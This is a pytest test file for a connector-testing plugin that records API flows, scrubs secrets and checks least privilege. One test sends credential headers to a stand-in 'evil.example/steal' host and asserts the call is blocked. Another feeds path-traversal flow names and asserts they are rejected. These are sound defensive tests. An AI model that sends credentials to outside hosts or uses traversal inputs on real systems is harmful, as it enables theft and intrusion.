"""Recording live flow code as a flow file, secrets scrubbed, and replaying it as items."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
import yaml

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import PluginWorkspace

CANARY = "canary-Zq8LmX2vR7tK9pW4sN6yB3cF"
BLOB = b"\x89PNG\r\n\x1a\n\x00\x01\xfe binary body"

# bot@prod may write (all the recorded flow needs), bot@dev only read; no flows yet.
POLICY = """\
connectors:
  - name: bot
    owner: owner@example.com
    credential: {type: oauth2-client-credentials, lifetime: 1h}
    allowed_hosts: [api.svc.example]
roles:
  - name: reader
    grants: {svc: [svc.read]}
  - name: writer
    grants: {svc: [svc.write]}
bindings:
  - connector: bot
    env: dev
    roles: [reader]
  - connector: bot
    env: prod
    roles: [writer]
flows: []
"""

LIVE_TEST = f'''
import httpx
import requests

CANARY = "{CANARY}"
BLOB = {BLOB!r}


def test_recorded_flow(binding):
    bot = binding("bot@prod")
    base = bot.base_urls["svc"]
    listed = requests.get(
        base + "/items", params={{"api_key": CANARY}}, headers={{**bot.headers, "X-Api-Key": CANARY}}
    )
    assert listed.status_code == 200
    created = httpx.post(
        base + "/items", json={{"name": "report", "client_secret": CANARY}}, headers=bot.headers
    )
    assert created.status_code == 201 or created.status_code == 200
    uploaded = requests.put(
        base + "/items/i1/blob",
        data=BLOB,
        headers={{**bot.headers, "Content-Type": "application/octet-stream"}},
    )
    assert uploaded.status_code == 200
'''


def recorded(root: Path, name: str) -> Path:
    return root / "scenarios" / "recorded" / f"{name}.yaml"


def test_record_and_replay_round_trip(pytester: pytest.Pytester, ws: PluginWorkspace) -> None:
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(test_record=LIVE_TEST)
    flow_file = recorded(pytester.path, "recorded-flow")

    # -- record: the live test runs in the sandbox and becomes a flow file ---------------
    run = pytester.runpytest("test_record.py", "--harness-record", "-rA")
    run.assert_outcomes(passed=1)
    assert CANARY not in run.stdout.str() + run.stderr.str()
    assert flow_file.is_file()
    text = flow_file.read_text("utf-8")
    assert CANARY not in text
    assert "<secret-1>" in text
    assert "<secret-2>" not in text  # the same secret, the same handle; the token is dropped
    assert text.startswith(
        "# Recorded by connector-harness from test_record.py::test_recorded_flow.\n"
        "# 1 secret value(s) replaced by <secret-N> handles;"
    )
    (flow,) = yaml.safe_load(text)["flows"]
    assert (flow["name"], flow["connector"]) == ("recorded-flow", "bot")
    listed, created, uploaded = (step["request"] for step in flow["steps"])
    assert listed["url"] == "https://api.svc.example/items?api_key=<secret-1>"
    assert listed["headers"] == {"X-Api-Key": "<secret-1>"}
    assert created["json"] == {"name": "report", "client_secret": "<secret-1>"}
    assert "Authorization" not in str(flow)
    assert uploaded["body_file"] == "recorded-flow.bodies/3-request.bin"
    assert "json" not in uploaded
    sidecar = flow_file.parent / "recorded-flow.bodies" / "3-request.bin"
    assert sidecar.read_bytes() == BLOB

    # -- replay: the recorded flow is collected as items, one per binding ----------------
    collected = pytester.runpytest("--collect-only", "-q")
    collected.stdout.fnmatch_lines(
        [
            "scenarios/recorded/recorded-flow.yaml::recorded-flow[[]bot@dev[]]",
            "scenarios/recorded/recorded-flow.yaml::recorded-flow[[]bot@prod[]]",
        ]
    )
    replay = pytester.runpytest(
        "-rA",
        "--harness-report",
        "json:out/lp.json",
        "--harness-report",
        "markdown:out/lp.md",
        "--junitxml=out/junit.xml",
    )
    assert ws.outcomes(replay.outlines) == {
        ("PASSED", "test_record.py::test_recorded_flow"),
        ("FAILED", "scenarios/recorded/recorded-flow.yaml::recorded-flow[bot@dev]"),
        ("PASSED", "scenarios/recorded/recorded-flow.yaml::recorded-flow[bot@prod]"),
    }
    replay.stdout.fnmatch_lines(
        [
            "binding bot@dev fails least privilege in flow recorded-flow (2 findings):",
            "  missing           scenarios/recorded/recorded-flow.yaml:*:5",
            "                    svc:items.create was denied: it requires svc.write; grant svc.write",
            "*",
            "  missing           scenarios/recorded/recorded-flow.yaml:*:5",
            "                    svc:items.upload was denied: it requires svc.write; grant svc.write",
        ]
    )
    replay.stdout.fnmatch_lines(
        [
            "  step 1  GET api.svc.example/items  allowed  (requires svc.read; allowed by svc.read)",
            "  step 2  POST api.svc.example/items  denied  (requires svc.write; granted: svc.read)",
            "  step 3  PUT api.svc.example/items/i1/blob  denied  (*",
        ]
    )
    assert ws.summary_block(replay.outlines)[:2] == [
        "FAIL  bot@dev   2 missing  0 excessive  0 over-broad",
        "PASS  bot@prod  0 missing  0 excessive  0 over-broad",
    ]
    out = pytester.path / "out"
    for name in ("lp.json", "lp.md", "junit.xml"):
        content = (out / name).read_text("utf-8")
        assert "recorded-flow" in content
        assert CANARY not in content, name
    assert CANARY not in replay.stdout.str() + replay.stderr.str()
    assert CANARY not in collected.stdout.str()


def test_record_modes(pytester: pytest.Pytester, ws: PluginWorkspace) -> None:
    """`new` keeps an existing recording, `all` (the bare flag) rewrites it, and without
    the flag nothing is written."""
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(test_record=LIVE_TEST)
    flow_file = recorded(pytester.path, "recorded-flow")

    pytester.runpytest("test_record.py").assert_outcomes(passed=1)
    assert not flow_file.exists()

    pytester.runpytest("test_record.py", "--harness-record", "new").assert_outcomes(passed=1)
    original = flow_file.read_text("utf-8")
    flow_file.write_text(original + "# edited by hand\n", "utf-8")

    pytester.runpytest("test_record.py", "--harness-record", "new").assert_outcomes(passed=1)
    assert flow_file.read_text("utf-8").endswith("# edited by hand\n")

    pytester.runpytest("test_record.py", "--harness-record").assert_outcomes(passed=1)
    assert flow_file.read_text("utf-8") == original

    flow_file.write_text(original + "# edited by hand\n", "utf-8")
    pytester.runpytest("--harness-record=new", "test_record.py").assert_outcomes(passed=1)
    assert flow_file.read_text("utf-8").endswith("# edited by hand\n")
    # a path after the bare flag is the test to run, not the mode (which is then `all`)
    pytester.runpytest("--harness-record", "test_record.py").assert_outcomes(passed=1)
    assert flow_file.read_text("utf-8") == original


def test_a_record_mode_that_is_not_one_is_a_usage_error(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    ws.write({"bot.yaml": POLICY})
    result = pytester.runpytest("--harness-record=neww")
    result.stderr.fnmatch_lines(["ERROR: --harness-record: 'neww' is not one of none, new, all"])
    assert result.ret == pytest.ExitCode.USAGE_ERROR


MARKED_TESTS = """
import pytest
import requests


@pytest.mark.harness_record(flow="marked-flow", connector="bot")
def test_marked(binding):
    bot = binding("bot@dev")
    assert requests.get("https://api.svc.example/items", headers=bot.headers).status_code == 200


@pytest.mark.harness_record(flow="failed-flow")
def test_marked_but_failing(binding):
    bot = binding("bot@dev")
    requests.get("https://api.svc.example/items", headers=bot.headers)
    assert False, "a failing test records nothing"
"""


def test_record_marker(pytester: pytest.Pytester, ws: PluginWorkspace) -> None:
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(test_marked=MARKED_TESTS)
    result = pytester.runpytest("test_marked.py")
    result.assert_outcomes(passed=1, failed=1)
    flow: dict[str, Any] = yaml.safe_load(
        recorded(pytester.path, "marked-flow").read_text("utf-8")
    )["flows"][0]
    assert (flow["name"], flow["connector"]) == ("marked-flow", "bot")
    assert [step["name"] for step in flow["steps"]] == ["GET /items"]
    assert not recorded(pytester.path, "failed-flow").exists()
    replay = pytester.runpytest("scenarios", "-rA")
    assert ws.outcomes(replay.outlines) == {
        ("PASSED", "scenarios/recorded/marked-flow.yaml::marked-flow[bot@dev]"),
        # bot@prod holds svc.write, which reading does not need
        ("FAILED", "scenarios/recorded/marked-flow.yaml::marked-flow[bot@prod]"),
    }


def test_recording_several_connectors_needs_a_name(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    other = ws.policy({"prod": ["svc.read"]}, {}, connector="other")
    ws.write({"bot.yaml": POLICY, "other.yaml": other})
    pytester.makepyfile(
        test_two="""
        import requests

        def test_two(binding):
            for name in ("bot@dev", "other@prod"):
                headers = binding(name).headers
                requests.get("https://api.svc.example/items", headers=headers)
        """
    )
    result = pytester.runpytest("test_two.py", "--harness-record")
    result.assert_outcomes(passed=1, errors=1)
    result.stdout.fnmatch_lines(
        [
            "*cannot record test_two.py::test_two: it used 2 connectors (bot, other);"
            " name one with @pytest.mark.harness_record(connector=...)",
        ]
    )
    assert not (pytester.path / "scenarios" / "recorded").exists()


def test_a_misspelled_record_mark_argument_fails_the_test_before_it_runs(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(
        test_typo="""
        import pytest

        @pytest.mark.harness_record(conector="bot")
        def test_typo(binding):
            raise AssertionError("never runs")
        """
    )
    result = pytester.runpytest("test_typo.py")
    result.assert_outcomes(errors=1)
    result.stdout.fnmatch_lines(
        [
            "harness_record has no argument conector; it takes flow=, connector=, mode= (none, new, all)"
        ]
    )
    assert not (pytester.path / "scenarios" / "recorded").exists()


EXPECTING_TESTS = """
import pytest
import requests

ITEMS = "https://api.svc.example/items"


@pytest.mark.harness_record(flow="expects-refusals")
def test_expects_refusals(binding, assert_denied, assert_blocked):
    bot = binding("bot@dev")
    assert requests.get(ITEMS, headers=bot.headers).status_code == 200
    assert requests.post(ITEMS, json={"name": "x"}, headers=bot.headers).status_code == 403
    assert_denied("POST", ITEMS)
    with pytest.raises(requests.ConnectionError):
        requests.get("https://evil.example/steal", headers=bot.headers)
    assert_blocked("evil.example")


@pytest.mark.harness_record(flow="no-binding")
def test_without_a_binding(sandbox, assert_denied):
    assert requests.get(ITEMS).status_code == 401
    assert_denied("GET", ITEMS)
"""


def test_recording_keeps_the_refusals_the_test_asserted(
    pytester: pytest.Pytester, ws: PluginWorkspace
) -> None:
    """A call the test asserted was denied or blocked is recorded as expected to be refused,
    so the binding that passed live passes its replay; a test that used no binding records
    nothing, and passes."""
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(test_expecting=EXPECTING_TESTS)
    pytester.runpytest("test_expecting.py").assert_outcomes(passed=2)
    flow: dict[str, Any] = yaml.safe_load(
        recorded(pytester.path, "expects-refusals").read_text("utf-8")
    )["flows"][0]
    assert [(step["name"], step.get("expect")) for step in flow["steps"]] == [
        ("GET /items", None),
        ("POST /items", "denied"),
        ("GET /steal", "denied"),
    ]
    assert not recorded(pytester.path, "no-binding").exists()
    replay = pytester.runpytest("scenarios", "-rA")
    assert ws.outcomes(replay.outlines) == {
        ("PASSED", "scenarios/recorded/expects-refusals.yaml::expects-refusals[bot@dev]"),
        # bot@prod may write: the POST the flow expects refused is allowed
        ("FAILED", "scenarios/recorded/expects-refusals.yaml::expects-refusals[bot@prod]"),
    }
    replay.stdout.fnmatch_lines(
        ["*svc:items.create was allowed, but the flow expects it to be denied*"]
    )


@pytest.mark.parametrize("flow", ["../../../escaped", "/tmp/escaped", "a/b", ".."])
def test_a_record_mark_flow_name_cannot_leave_the_scenarios_directory(
    pytester: pytest.Pytester, ws: PluginWorkspace, flow: str
) -> None:
    ws.write({"bot.yaml": POLICY})
    pytester.makepyfile(
        test_escape=f"""
        import pytest
        import requests

        @pytest.mark.harness_record(flow={flow!r})
        def test_escape(binding):
            requests.get("https://api.svc.example/items", headers=binding("bot@dev").headers)
        """
    )
    result = pytester.runpytest("test_escape.py", "--harness-record")
    result.assert_outcomes(errors=1)
    result.stdout.fnmatch_lines([f"*harness_record: flow={flow!r} is not a flow name;*"])
    written = {path.name for path in pytester.path.parent.rglob("escaped*")}
    assert written == set()
    assert not (pytester.path / "scenarios" / "recorded").exists()
